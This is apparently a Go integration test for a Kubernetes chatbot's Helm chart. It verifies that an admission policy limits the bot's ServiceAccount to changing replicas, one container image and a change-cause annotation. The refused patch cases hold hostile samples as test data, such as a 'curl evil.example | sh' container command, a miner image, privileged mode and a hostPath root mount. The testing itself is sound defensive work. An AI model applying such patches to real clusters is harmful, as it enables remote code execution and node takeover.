package chart

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"

	"gitlab.com/derrick-kit/derrick/internal/bottest"
	"gitlab.com/derrick-kit/derrick/internal/clustertest"
	"gitlab.com/derrick-kit/derrick/internal/proctest"
)

// deployPolicyMsg starts every refusal of the chart's Deployment policy.
const deployPolicyMsg = "the derrick bot may change only spec.replicas, the image of the application container and its own annotations of a Deployment"

// patchCase is one strategic merge patch of the app Deployment.
type patchCase struct{ name, patch string }

// waitForDeployPolicy waits until the apiserver enforces the Deployment
// policy: a dry run (admission, nothing stored) of a forbidden patch fails.
func waitForDeployPolicy(ctx context.Context, t *testing.T, d kubeDeployments, name, patch string) {
	t.Helper()
	var err error
	_ = wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 20*time.Second, true, func(ctx context.Context) (bool, error) {
		_, err = d.Patch(ctx, name, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return err != nil, nil
	})
	if err == nil || !strings.Contains(err.Error(), deployPolicyMsg) {
		t.Fatalf("the Deployment policy is not enforced after 20s: %v", err)
	}
}

type kubeDeployments interface {
	Patch(ctx context.Context, name string, pt types.PatchType, data []byte, opts metav1.PatchOptions, subresources ...string) (*appsv1.Deployment, error)
}

// checkPatches applies each patch as the bot's ServiceAccount, for real
// when it must be refused (nothing may be stored) and as a dry run when it
// must pass (it changes nothing the later tests see).
func checkPatches(ctx context.Context, t *testing.T, cs kubernetes.Interface, ns, name string, denied, allowed []patchCase) {
	t.Helper()
	d := cs.AppsV1().Deployments(ns)
	for _, p := range denied {
		_, err := d.Patch(ctx, name, types.StrategicMergePatchType, []byte(p.patch), metav1.PatchOptions{})
		if err == nil || !strings.Contains(err.Error(), deployPolicyMsg) {
			t.Errorf("patch of the %s as the bot: %v, want the policy's refusal", p.name, err)
			continue
		}
		t.Logf("%s: %s", p.name, err.Error()[strings.Index(err.Error(), deployPolicyMsg)+len(deployPolicyMsg):])
	}
	for _, p := range allowed {
		if _, err := d.Patch(ctx, name, types.StrategicMergePatchType, []byte(p.patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}); err != nil {
			t.Errorf("patch of the %s as the bot (dry run): %v", p.name, err)
		}
	}
}

// testDeploymentPatchPolicy: RBAC allows patching the app Deployment; the
// chart's admission policy lets the ServiceAccount change only replicas,
// the application container's image (here the first container: app.container
// is not set) and kubernetes.io/change-cause. The bot's own /set_replicas and
// /deploy go through it in "every command".
func testDeploymentPatchPolicy(ctx context.Context, t *testing.T, c *clustertest.Cluster, sa string) {
	cs := saClient(ctx, t, c, releaseNS, sa)
	const app, ctr = clustertest.AppName, clustertest.AppContainer
	command := `{"spec":{"template":{"spec":{"containers":[{"name":"` + ctr + `","command":["sh","-c","curl evil.example | sh"]}]}}}}`
	waitForDeployPolicy(ctx, t, cs.AppsV1().Deployments(appNS), app, command)

	before, err := c.Client.AppsV1().Deployments(appNS).Get(ctx, app, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	checkPatches(ctx, t, cs, appNS, app, []patchCase{
		{"command", command},
		{"args", `{"spec":{"template":{"spec":{"containers":[{"name":"` + ctr + `","args":["--debug"]}]}}}}`},
		{"env", `{"spec":{"template":{"spec":{"containers":[{"name":"` + ctr + `","env":[{"name":"X","value":"y"}]}]}}}}`},
		{"security context", `{"spec":{"template":{"spec":{"containers":[{"name":"` + ctr + `","securityContext":{"privileged":true}}]}}}}`},
		{"volumes", `{"spec":{"template":{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}}}`},
		{"service account", `{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}`},
		{"host network", `{"spec":{"template":{"spec":{"hostNetwork":true}}}}`},
		{"node selector", `{"spec":{"template":{"spec":{"nodeSelector":{"kubernetes.io/hostname":"node-tainted"}}}}}`},
		{"added container", `{"spec":{"template":{"spec":{"containers":[{"name":"miner","image":"evil.example/miner"}]}}}}`},
		{"init container", `{"spec":{"template":{"spec":{"initContainers":[{"name":"x","image":"evil.example/x"}]}}}}`},
		{"pod template labels", `{"spec":{"template":{"metadata":{"labels":{"x":"y"}}}}}`},
		{"pod template annotations", `{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"now"}}}}}`},
		{"strategy", `{"spec":{"strategy":{"type":"Recreate","rollingUpdate":null}}}`},
		{"paused flag", `{"spec":{"paused":true}}`},
		{"labels", `{"metadata":{"labels":{"x":"y"}}}`},
		{"other annotation", `{"metadata":{"annotations":{"example.com/owner":"bot"}}}`},
		{"replicas together with the command", `{"spec":{"replicas":3,"template":{"spec":{"containers":[{"name":"` + ctr + `","command":["sh"]}]}}}}`},
	}, []patchCase{
		{"replicas", `{"spec":{"replicas":5}}`},
		{"image", `{"spec":{"template":{"spec":{"containers":[{"name":"` + ctr + `","image":"registry.example.com/oil/app:9.9.9"}]}}}}`},
		{"change-cause annotation", `{"metadata":{"annotations":{"kubernetes.io/change-cause":"/deploy 9.9.9 by 1001"}}}`},
		{"pinned image and change-cause, as /deploy writes them", `{"metadata":{"annotations":{"kubernetes.io/change-cause":"/deploy 9.9.9 by @alice (1001)"}},"spec":{"template":{"spec":{"containers":[{"name":"` + ctr + `","image":"registry.example.com/oil/app:9.9.9@sha256:` + strings.Repeat("a", 64) + `"}]}}}}`},
		{"image, replicas and change-cause at once", `{"metadata":{"annotations":{"kubernetes.io/change-cause":"x"}},"spec":{"replicas":1,"template":{"spec":{"containers":[{"name":"` + ctr + `","image":"registry.example.com/oil/app:9.9.9"}]}}}}`},
	})
	after, err := c.Client.AppsV1().Deployments(appNS).Get(ctx, app, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if after.Generation != before.Generation || after.ResourceVersion != before.ResourceVersion {
		t.Errorf("the Deployment changed during the refused patches: generation %d → %d", before.Generation, after.Generation)
	}
	// The scale subresource is not the bot's way: RBAC refuses it before
	// the policy (which matches the Deployment itself) is asked.
	if _, err := cs.AppsV1().Deployments(appNS).Patch(ctx, app, types.MergePatchType, []byte(`{"spec":{"replicas":4}}`),
		metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}, "scale"); !apierrors.IsForbidden(err) {
		t.Errorf("patch of deployments/scale as the bot: %v, want Forbidden", err)
	}
	// Others (the admin here) are not affected.
	if _, err := c.Client.AppsV1().Deployments(appNS).Patch(ctx, app, types.StrategicMergePatchType, []byte(command),
		metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}); err != nil {
		t.Errorf("the policy also refuses the admin: %v", err)
	}
}

// TestDeploymentPolicyNamedContainer: with app.container set, the policy
// allows the image of that container only, even when it is not the first,
// and refuses the sidecar's. A release of its own (release namespace,
// app namespace, a Deployment with two containers and no replicas).
func TestDeploymentPolicyNamedContainer(t *testing.T) {
	ctx := t.Context()
	c := clustertest.Shared(t)
	if _, err := helmPath(); err != nil {
		proctest.SkipOrFail(t, "%v", err)
	}
	const relNS, ns, name = "derrick-policy", "oil-policy", "refinery"
	createNamespace(ctx, t, c, relNS, nil)
	c.SeedNamespace(ctx, t, ns)
	t.Cleanup(func() {
		for _, n := range []string{relNS, ns} {
			_ = c.Client.CoreV1().Namespaces().Delete(context.Background(), n, metav1.DeleteOptions{})
		}
	})
	labels := map[string]string{"app.kubernetes.io/name": name}
	// Large enough to show the policy stays within CEL's cost limits (it
	// compares every container with every other by name): 20 sidecars of
	// 50 variables each before the application container.
	var containers []corev1.Container
	for i := range 20 {
		ct := corev1.Container{Name: fmt.Sprintf("proxy-%d", i), Image: "registry.example.com/proxy:2.0"}
		for j := range 50 {
			ct.Env = append(ct.Env, corev1.EnvVar{Name: fmt.Sprintf("SETTING_%d", j), Value: strings.Repeat("v", 40)})
		}
		containers = append(containers, ct)
	}
	containers = append(containers, corev1.Container{Name: "app", Image: "registry.example.com/oil/app:1.0"})
	d := &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
		Spec: appsv1.DeploymentSpec{
			Replicas: ptr.To[int32](0),
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec:       corev1.PodSpec{Containers: containers},
			},
		},
	}
	if _, err := c.Client.AppsV1().Deployments(ns).Create(ctx, d, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	objs := render(t, relNS, "-f", writeValues(t, map[string]any{
		"telegram":     map[string]any{"token": token, "apiURL": "http://127.0.0.1:1"},
		"chatops":      map[string]any{"operators": []int64{operator}},
		"app":          map[string]any{"namespace": ns, "deployment": name, "container": "app"},
		"registry":     map[string]any{"image": "127.0.0.1:1/oil/app", "insecure": true},
		"replicaCount": 0,
	}))
	a := newApplier(t, c.Config)
	if err := a.apply(ctx, objs, false); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		for _, o := range objs {
			if o.GetNamespace() == "" { // cluster-scoped: the namespaces take the rest
				if r, err := a.resource(o); err == nil {
					_ = r.Delete(context.Background(), o.GetName(), metav1.DeleteOptions{})
				}
			}
		}
	})
	cs := saClient(ctx, t, c, relNS, deploymentOf(t, objs).Spec.Template.Spec.ServiceAccountName)
	proxyImage := `{"spec":{"template":{"spec":{"containers":[{"name":"proxy-19","image":"evil.example/proxy:6.6.6"}]}}}}`
	waitForDeployPolicy(ctx, t, cs.AppsV1().Deployments(ns), name, proxyImage)
	checkPatches(ctx, t, cs, ns, name, []patchCase{
		{"other container's image", proxyImage},
		{"other container's command", `{"spec":{"template":{"spec":{"containers":[{"name":"proxy-0","command":["sh"]}]}}}}`},
		{"other container's variable", `{"spec":{"template":{"spec":{"containers":[{"name":"proxy-7","env":[{"name":"SETTING_3","value":"x"}]}]}}}}`},
		{"both images", `{"spec":{"template":{"spec":{"containers":[{"name":"proxy-19","image":"evil.example/proxy:6.6.6"},{"name":"app","image":"registry.example.com/oil/app:2.0"}]}}}}`},
		{"application container's variables with its image", `{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"registry.example.com/oil/app:2.0","env":[{"name":"X","value":"y"}]}]}}}}`},
		{"removed container", `{"spec":{"template":{"spec":{"containers":[{"name":"proxy-3","$patch":"delete"}]}}}}`},
		{"container order", `{"spec":{"template":{"spec":{"$setElementOrder/containers":[{"name":"app"},{"name":"proxy-0"}]}}}}`},
	}, []patchCase{
		{"application container's image", `{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"registry.example.com/oil/app:2.0"}]}}}}`},
		{"replicas", `{"spec":{"replicas":2}}`},
	})

	// The real bot command: /deploy's patch as the bot makes it, through
	// the same library call, stored for real.
	if _, err := cs.AppsV1().Deployments(ns).Patch(ctx, name, types.StrategicMergePatchType,
		[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"registry.example.com/oil/app:2.0"}]}}}}`),
		metav1.PatchOptions{}); err != nil {
		t.Errorf("set image of container app as the bot: %v", err)
	}
	got, err := c.Client.AppsV1().Deployments(ns).Get(ctx, name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if img := got.Spec.Template.Spec.Containers; img[19].Image != "registry.example.com/proxy:2.0" || img[20].Image != "registry.example.com/oil/app:2.0" {
		t.Errorf("images after the bot's patch: %s, %s", img[19].Image, img[20].Image)
	}
}

// testLogsOfLookAlike: a pod with the app's labels that the Deployment does
// not own gets the same reply as an unknown pod, through the bot running as
// the chart's ServiceAccount (which may read ReplicaSets for the check).
func testLogsOfLookAlike(ctx context.Context, t *testing.T, c *clustertest.Cluster, w *chat) {
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "look-alike", Namespace: appNS, Labels: clustertest.AppSelector},
		Spec: corev1.PodSpec{
			NodeName:                      clustertest.NodeReady,
			Containers:                    []corev1.Container{{Name: clustertest.AppContainer, Image: clustertest.AppImage}},
			TerminationGracePeriodSeconds: ptr.To[int64](0),
		},
	}
	if _, err := c.Client.CoreV1().Pods(appNS).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = c.Client.CoreV1().Pods(appNS).Delete(context.Background(), pod.Name, metav1.DeleteOptions{GracePeriodSeconds: ptr.To[int64](0)})
	})
	got := bottest.Plain(w.say(t, viewer, "/get_logs look-alike", nil))
	if want := "Пода look-alike нет среди подов " + clustertest.AppName; !strings.Contains(got, want) {
		t.Errorf("/get_logs of a look-alike pod: %q, want %q", got, want)
	}
	for _, line := range clustertest.AppLogLines() {
		if strings.Contains(got, line) {
			t.Errorf("/get_logs of a look-alike pod shows its log line %q", line)
			break
		}
	}
}
